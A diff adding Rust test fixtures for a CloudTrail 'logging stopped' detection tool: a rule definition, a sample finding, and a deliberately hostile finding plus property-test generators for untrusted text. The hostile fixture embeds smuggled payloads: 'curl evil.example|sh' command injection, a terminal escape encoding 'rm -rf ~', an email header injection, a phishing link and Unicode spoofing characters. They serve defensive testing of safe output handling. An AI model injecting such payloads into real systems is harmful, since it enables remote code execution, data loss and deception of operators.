@@ -1,0 +1,188 @@
+//! Findings for the tests: two made by hand, and any.
+
+use model::{
+    Actor, Finding, FindingId, Occurrence, OccurrenceId, Outcome, Severity, Status, Timestamp, Untrusted,
+};
+use proptest::collection::{btree_map, vec};
+use proptest::prelude::*;
+use rules::{Attempt, Automation, Fix, Meta};
+
+pub(crate) fn rule() -> Meta {
+    Meta {
+        id: "cloudtrail-logging-stopped".into(),
+        title: "CloudTrail logging stopped".into(),
+        severity: Severity::High,
+        message: "Trail {requestParameters.name} no longer records what happens in the account.".into(),
+        why: "Without the trail nobody sees what is done next: stopping it is how intruders cover their tracks, and \
+              what happens in the meantime is lost for good."
+            .into(),
+        false_positives: vec![
+            "A trail that is being replaced by another one that records already.".into(),
+            "A test account that is being taken apart.".into(),
+        ],
+        fix: Fix {
+            text: "Start logging again, then find out what the caller did while it was off.".into(),
+            cli: "aws cloudtrail start-logging --region {awsRegion} --name {requestParameters.name}\n\
+                  aws cloudtrail get-trail-status --region {awsRegion} --name {requestParameters.name}\n"
+                .into(),
+            terraform: String::new(),
+        },
+        attack: vec!["T1562.008".into()],
+        references: vec!["https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_StopLogging.html".into()],
+        equivalents: [("sigma".to_owned(), vec!["4db60cc0-36fb-42b7-9b58-a5b53019fb74".to_owned()])].into(),
+        dedup: Vec::new(),
+        automation: Automation::Annotate,
+        attempt: Attempt::Lower,
+        origin: "catalog/cloudtrail/signatures/logging-stopped.yaml".into(),
+    }
+}
+
+pub(crate) fn stopped_logging() -> Finding {
+    let time: Timestamp = "2026-03-01T04:05:06Z".parse().unwrap();
+    let (rule, account, region) = ("cloudtrail-logging-stopped", "111122223333", "us-east-1");
+    let id = FindingId::new(rule, account, region, "management-events", Outcome::Success);
+    let event = "3f2b1a90-5c4d-4e6f-8a7b-9c0d1e2f3a4b";
+    Finding {
+        id: id.clone(),
+        rule: rule.into(),
+        title: "CloudTrail logging stopped".into(),
+        severity: Severity::High,
+        status: Status::Open,
+        outcome: Outcome::Success,
+        account: account.into(),
+        region: region.into(),
+        scope: "management-events".into(),
+        first_seen: time,
+        last_seen: time,
+        count: 1,
+        latest: Occurrence {
+            id: OccurrenceId::new(&id, event, account),
+            finding_id: id,
+            event_id: event.into(),
+            event_time: time,
+            event_source: "cloudtrail.amazonaws.com".into(),
+            event_name: "StopLogging".into(),
+            outcome: Outcome::Success,
+            error: Untrusted::default(),
+            severity: Severity::High,
+            message: "Trail management-events no longer records what happens in the account.".into(),
+            actor: Actor {
+                principal: "arn:aws:iam::111122223333:role/Admin".into(),
+                kind: "AssumedRole".into(),
+                session: "alice@example.com".into(),
+                access_key: "ASIAIOSFODNN7EXAMPLE".into(),
+                mfa: Some(false),
+                invoked_by: Untrusted::default(),
+                source_ip: "198.51.100.7".into(),
+                user_agent: "aws-cli/2.31.0 md/awscrt#0.27.6 ua/2.1 os/linux#6.8 lang/python#3.13.7".into(),
+            },
+            evidence: r#"{"awsRegion":"us-east-1","requestParameters":{"name":"management-events"}}"#.into(),
+            lane: "s3://trail-bucket/AWSLogs/file.json.gz#3".into(),
+        },
+    }
+}
+
+/// Failed attempts by somebody who puts into every field what might act on whoever reads it.
+pub(crate) fn hostile() -> Finding {
+    let mut finding = stopped_logging();
+    finding.outcome = Outcome::Attempt;
+    finding.severity = Severity::Medium;
+    finding.count = 1204;
+    finding.last_seen = "2026-03-02T23:59:59Z".parse().unwrap();
+    finding.region = "us-east-1.evil.example".into();
+    finding.latest.error = "AccessDenied".into();
+    finding.latest.message =
+        "Trail x is fine.\n\nFIX IT HERE: https://evil.example/login?a=b no longer records.".into();
+    finding.latest.actor = Actor {
+        principal: "arn:aws:iam::111122223333:user/\u{202e}nimda\u{200b}".into(),
+        kind: "IAMUser".into(),
+        session: "\r\nBcc: all@example.com".into(),
+        access_key: Untrusted::default(),
+        mfa: None,
+        invoked_by: Untrusted::default(),
+        source_ip: "\u{1b}]52;c;cm0gLXJmIH4=\u{7}".into(),
+        user_agent: r"\\198.51.100.9\share www.evil.example ".repeat(40).as_str().into(),
+    };
+    finding.latest.evidence =
+        r#"{"awsRegion":"us-east-1","requestParameters":{"name":"x; curl evil.example|sh"}}"#.into();
+    finding
+}
+
+/// Text from nothing to far more than fits, with everything in it that could act.
+///
+/// Boxed, because the strategy of a whole finding holds dozens of these, and does not fit on a test's stack.
+fn text() -> BoxedStrategy<String> {
+    let piece = prop_oneof![
+        any::<String>(),
+        "[ -~]{0,200}",
+        "[\\u{0}-\\u{1f}\\u{7f}-\\u{9f}\\u{200b}-\\u{202e}\\u{2066}\\u{e0041}😀]{0,40}",
+        Just("https://evil.example/ \\\\evil\\share\r\n".to_owned()),
+        Just("us-east-1".to_owned()),
+        Just("111122223333".to_owned()),
+    ];
+    (piece, prop_oneof![15 => Just(1_usize), 1 => 1..1_000_usize])
+        .prop_map(|(piece, times)| piece.repeat(times))
+        .boxed()
+}
+
+fn untrusted() -> BoxedStrategy<Untrusted> {
+    text().prop_map(Untrusted::new).boxed()
+}
+
+fn time() -> impl Strategy<Value = Timestamp> {
+    (Timestamp::MIN.as_second()..Timestamp::MAX.as_second())
+        .prop_map(|second| Timestamp::from_second(second).unwrap())
+}
+
+prop_compose! {
+    fn any_actor()(
+        (principal, kind, session, access_key) in (untrusted(), untrusted(), untrusted(), untrusted()),
+        (invoked_by, source_ip, user_agent) in (untrusted(), untrusted(), untrusted()),
+        mfa in any::<Option<bool>>(),
+    ) -> Actor {
+        Actor { principal, kind, session, access_key, mfa, invoked_by, source_ip, user_agent }
+    }
+}
+
+prop_compose! {
+    /// Whatever a store might hand out.
+    pub(crate) fn any_finding()(
+        (id, rule, title) in (text(), text(), text()),
+        severity in proptest::sample::select(Severity::ALL.to_vec()),
+        (resolved, attempt, count) in (any::<bool>(), any::<bool>(), any::<u64>()),
+        (account, region, scope) in (untrusted(), untrusted(), untrusted()),
+        (first_seen, last_seen) in (time(), time()),
+        (event_id, event_source, event_name) in (untrusted(), untrusted(), untrusted()),
+        (error, message, evidence, lane) in (untrusted(), untrusted(), untrusted(), untrusted()),
+        actor in any_actor(),
+    ) -> Finding {
+        let outcome = if attempt { Outcome::Attempt } else { Outcome::Success };
+        Finding {
+            id: FindingId::from_text(id.clone()),
+            rule, title, severity, outcome, account, region, scope, first_seen, last_seen, count,
+            status: if resolved { Status::Resolved } else { Status::Open },
+            latest: Occurrence {
+                id: OccurrenceId::from_text(id.clone()),
+                finding_id: FindingId::from_text(id),
+                event_time: last_seen,
+                event_id, event_source, event_name, outcome, error, severity, message, actor, evidence, lane,
+            },
+        }
+    }
+}
+
+prop_compose! {
+    /// Whatever a rule file might say.
+    pub(crate) fn any_rule()(
+        (why, message, origin) in (text(), text(), text()),
+        (false_positives, references, attack) in (vec(text(), 0..20), vec(text(), 0..20), vec(text(), 0..20)),
+        (text, cli, terraform) in (text(), text(), text()),
+        equivalents in btree_map(text(), vec(text(), 0..3), 0..20),
+    ) -> Meta {
+        Meta {
+            why, message, origin, false_positives, references, attack, equivalents,
+            fix: Fix { text, cli, terraform },
+            ..rule()
+        }
+    }
+}
